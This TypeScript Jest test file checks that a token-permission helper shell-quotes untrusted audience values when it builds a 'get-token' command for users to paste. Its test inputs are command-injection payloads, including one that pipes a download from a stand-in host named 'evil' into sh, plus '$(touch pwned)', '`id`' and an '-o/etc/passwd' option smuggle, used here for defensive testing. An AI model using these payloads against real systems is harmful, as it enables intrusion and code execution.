import { execFileSync } from 'node:child_process';
import { expect, it } from '@jest/globals';
import { findMissing } from '../../src/tokens/needs.ts';

/** The words that a shell makes of a pasted command. */
function wordsOf(command: string): string[] {
  const script = `tokencli() { printf '%s\\n' "$@"; }\n${command}`;
  const paths = { PATH: '/nowhere' };
  return execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8', env: paths })
    .trimEnd()
    .split('\n');
}

const NONE = { scopes: [], roles: [], audiences: [] };

it.each([
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for the shell
  'https://x;curl${IFS}evil|sh',
  "https://x'$(touch pwned)'`id`",
  'https://x && exit 3 #',
  '-o/etc/passwd',
  '=ls',
])('what a stranger wrote into a token stays one word of the command to paste: %s', (aud) => {
  const missing = findMissing({ aud, scp: 'User.Read' }, { ...NONE, scopes: ['Mail.Send'] });
  const command = missing.at(-1)?.grant ?? '';
  const scope = `${aud}/Mail.Send`;
  const option = aud.startsWith('-') ? [`--scope=${scope}`] : ['--scope', scope];
  expect(wordsOf(command)).toEqual(['get-token', ...option]);
});

it('a wanted audience too', () => {
  const needs = { ...NONE, audiences: ['https://a b;id'] };
  const [missing] = findMissing({ aud: 'other' }, needs);
  expect(wordsOf(missing?.grant ?? '')).toEqual(['get-token', '--resource', 'https://a b;id']);
});
